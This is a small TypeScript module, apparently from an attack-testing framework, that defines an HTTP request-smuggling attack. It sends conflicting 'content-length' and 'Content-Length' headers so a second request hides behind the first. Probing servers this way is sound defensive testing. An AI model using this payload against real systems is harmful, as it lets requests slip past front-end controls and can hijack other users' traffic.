import type { Attack } from "../../Attack.ts";
import { smuggle } from "../../inside/smuggle.ts";

export const smuggleDoubleLength: Attack = {
  name: "smuggle-double-length",
  group: "network",
  tries: "hide a second request behind two different lengths",
  run: (attacker) =>
    smuggle(attacker, (second) => ({
      headers: { "content-length": "0", "Content-Length": String(second.length) },
      body: second,
    })),
};
